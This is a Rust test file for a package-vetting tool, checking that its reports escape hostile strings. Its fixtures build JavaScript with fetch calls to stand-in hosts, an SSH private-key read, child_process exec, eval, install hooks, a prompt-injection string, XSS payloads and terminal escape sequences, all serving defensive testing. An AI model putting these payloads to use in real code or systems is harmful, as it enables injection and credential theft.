//! Strings of a subject that are made to act on whoever reads the report.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

use assay_it::Bench;
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::Value;

use crate::samples::COVERT;
use crate::support::{assert_inert, bench, list, run, run_to};

/// Names that a file system takes.
const NAMES: [&[u8]; 11] = [
    b"\x1b]0;owned\x07\x1b[2J.js",
    b"line\nbreak\rreturn\ttab.js",
    b"invalid-\xff\xfe-utf8.js",
    "bidi-\u{202e}txt.js".as_bytes(),
    "hidden-\u{200b}\u{2066}\u{feff}\u{e0041}.js".as_bytes(),
    b"<img src=x onerror=alert(1)>.js",
    b"[click](javascript:alert(1)).js",
    b"`` ` tick | pipe ``.js",
    b"# heading **bold** _em_ ~~x~~.js",
    b"-rf --fail-on never.js",
    b"\"quote', &amp; %41 \\u001b \\.js",
];

/// Texts in code: hosts, variables, commands and prompts around marks of
/// terminals, HTML, Markdown and SARIF.
fn texts() -> Vec<&'static str> {
    vec![
        "\u{1b}[31mred\u{1b}]8;;https://evil.test\u{7}link",
        "\u{9b}31m\u{90}c1\u{9c}",
        "a\u{202e}b\u{2066}c\u{200f}d\u{61c}e",
        "tag\u{e0041}\u{e0042}\u{ad}soft",
        "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
        "[click](javascript:alert(1)) ![i](https://evil.test/i.png) <https://evil.test>",
        "``` \n# injected heading\n| a | b |\n- [ ] task\n```",
        "{0} {{1}} %s %n ${x}",
        "\\\"}]},\"results\":[{\"ruleId\":\"x\"}]",
        "\u{2028}\u{2029}\u{85}\u{b}\u{c}\u{8}",
    ]
}

fn subject(bench: &Bench) {
    let mut code = String::from(COVERT);
    for (n, text) in texts().iter().enumerate() {
        let literal = serde_json::to_string(text).unwrap();
        let raw = text.replace(['\n', '"', '\\'], " ");
        code.push_str(&format!(
            "fetch(\"https://h{n}.hostile-text.dev/\" + {literal});\n\
             fetch(\"https://r{n}.hostile-text.dev/{raw}\");\n\
             require('child_process').exec(\"run {raw}\");\n\
             process.env[{literal}]; process.env[\"X_{raw}_KEY\"];\n\
             require('fs').readFileSync(\"/home/.ssh/id_rsa {raw}\");\n\
             eval(\"{raw}\"); var p{n} = \"You are a helpful tool. {raw}\";\n"
        ));
    }
    for (n, name) in NAMES.iter().enumerate() {
        let path = bench.path("subject").join(format!("{n}"));
        std::fs::create_dir_all(&path).unwrap();
        std::fs::write(path.join(OsStr::from_bytes(name)), &code).unwrap();
    }
    // Without the semicolons of a well-formed file, and so read as text.
    bench
        .file("subject/lexical.js", format!("{code} ) ] }} function ("))
        .unwrap();
    let scripts: serde_json::Map<String, Value> = ["preinstall", "install", "postinstall"]
        .iter()
        .zip(texts())
        .map(|(name, text)| ((*name).to_owned(), Value::from(format!("sh {text}"))))
        .collect();
    let manifest = serde_json::json!({
        "name": texts()[0], "version": texts()[2], "scripts": scripts,
        "dependencies": { texts()[4]: texts()[5] },
    });
    bench
        .file("subject/package.json", manifest.to_string())
        .unwrap();
    bench
        .file(
            "subject/run.py",
            format!("import os\nos.system('{}')", texts()[0]),
        )
        .unwrap();
}

fn result(bench: &Bench, form: &[&str]) -> String {
    let arguments = ["vet", "./subject", "--offline", "--fail-on", "never"];
    let outcome = run_to(bench, &[&arguments[..], form].concat(), 0);
    assert_inert(&outcome.stderr);
    outcome.stdout
}

#[test]
fn text_output_has_no_control_character() {
    let bench = bench();
    subject(&bench);
    assert_inert(&result(&bench, &[]));
    assert_inert(&result(&bench, &["--verbose"]));
}

#[test]
fn markdown_has_no_control_character_html_link_or_image() {
    let bench = bench();
    subject(&bench);
    let report = result(&bench, &["--format", "markdown"]);
    assert_inert(&report);
    assert!(report.contains("hostile-text.dev"));
    let mut headings = 0;
    for event in Parser::new_ext(&report, Options::all()) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML in the report: {html}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("a link or image in the report: {dest_url}")
            }
            Event::Start(Tag::CodeBlock(_)) => panic!("a code block in the report"),
            Event::TaskListMarker(_) => panic!("a task in the report"),
            Event::Start(Tag::Heading { .. }) => headings += 1,
            _ => {}
        }
    }
    // Those that the report makes: the title, two parts, one for each
    // severity that there is, and one for each finding from medium on.
    let ours = report
        .lines()
        .filter(|line| {
            ["# ", "## ", "### ", "#### "]
                .iter()
                .any(|mark| line.starts_with(mark))
        })
        .count();
    assert_eq!(headings, ours);
    assert!(!report.lines().any(|line| line.starts_with("# injected")));
}

fn strings<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
    match value {
        Value::String(text) => out.push(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, out)),
        _ => {}
    }
}

#[test]
fn sarif_stays_sarif_and_its_texts_are_inert() {
    let bench = bench();
    subject(&bench);
    let log = result(&bench, &["--format", "sarif"]);
    assert!(!log.contains('\u{1b}'));
    let log: Value = serde_json::from_str(&log).unwrap();
    assert!(!list(&log, "/runs/0/results").is_empty());
    assert_eq!(list(&log, "/runs").len(), 1);
    let mut all = Vec::new();
    strings(&log["runs"][0]["results"], &mut all);
    strings(&log["runs"][0]["invocations"], &mut all);
    for text in all {
        assert_inert(text);
    }
}

#[test]
fn json_escapes_what_it_must_and_holds_the_truth() {
    let bench = bench();
    subject(&bench);
    let text = result(&bench, &["--format", "json"]);
    assert!(!text.chars().any(|c| c.is_ascii_control() && c != '\n'));
    serde_json::from_str::<Value>(&text).unwrap();
}

#[test]
fn the_dossier_folder_is_inert_too() {
    let bench = bench();
    subject(&bench);
    result(&bench, &["--output", "dossier"]);
    assert_inert(&std::fs::read_to_string(bench.path("dossier/report.md")).unwrap());
}

#[test]
fn errors_about_hostile_arguments_are_inert() {
    let bench = bench();
    for name in [
        "x\u{1b}[31m\u{7}",
        "npm:\u{1b}[31m",
        "npm:x@\u{202e}1",
        "pypi:\u{9b}",
        "x:\u{1b}",
    ] {
        let outcome = run(&bench, &["vet", name, "--offline"]);
        assert_eq!(outcome.code(), Some(2));
        assert_inert(&outcome.stderr);
    }
    for arguments in [
        &["explain", "x\u{1b}[31m\u{202e}"][..],
        &["reproduce", "\u{1b}[31m\u{202e}", "y\u{1b}[2J"],
    ] {
        let outcome = run(&bench, arguments);
        assert_eq!(outcome.code(), Some(2));
        assert_inert(&outcome.stderr);
    }
    for name in ["\u{1b}[31m.js", "\u{202e}.js"] {
        bench.file(name, COVERT).unwrap();
        for form in [
            &[][..],
            &["--format", "markdown"],
            &["--output", "\u{1b}[31md"],
        ] {
            let arguments = ["vet", name, "--offline"];
            let outcome = run(&bench, &[&arguments[..], form].concat());
            assert_inert(&outcome.stdout);
            assert_inert(&outcome.stderr);
        }
    }
}
